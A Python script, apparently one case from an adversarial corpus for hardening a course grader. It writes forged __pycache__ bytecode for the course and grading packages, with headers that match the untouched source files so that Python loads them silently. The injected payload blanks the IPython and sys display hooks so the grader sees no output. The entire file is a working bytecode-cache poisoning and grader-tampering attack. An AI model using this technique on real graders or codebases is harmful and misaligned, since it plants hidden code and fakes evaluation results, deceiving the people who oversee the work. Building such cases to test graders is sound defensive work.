# class: disk
# what: writes __pycache__ bytecode for course/__init__.py whose header matches the untouched source, with code of mine inside
# after: setup
# danger: disk
# ruff: noqa
import importlib.util
import os
from importlib._bootstrap_external import _code_to_timestamp_pyc

import course

PAYLOAD = """
# adv-corpus: compiled into the bytecode by a submission
import os as _adv_os
if "disk_rewrite_grader_pyc" in _adv_os.getcwd():
    try:
        import sys as _adv_sys
        from IPython import get_ipython as _adv_ip
        _adv_ip().display_trap.hook = _adv_sys.displayhook = lambda value: None
    except Exception:
        pass
"""
for _source in (
    course.__file__,
    os.path.join(os.path.dirname(course.__file__), "grading", "__init__.py"),
):
    try:
        with open(_source) as _f:
            _code = compile(_f.read() + PAYLOAD, _source, "exec")
        _st = os.stat(_source)
        _pyc = importlib.util.cache_from_source(_source)
        os.makedirs(os.path.dirname(_pyc), exist_ok=True)
        with open(_pyc, "wb") as _f:
            _f.write(_code_to_timestamp_pyc(_code, _st.st_mtime, _st.st_size))
    except OSError as exc:
        print("could not write:", type(exc).__name__)
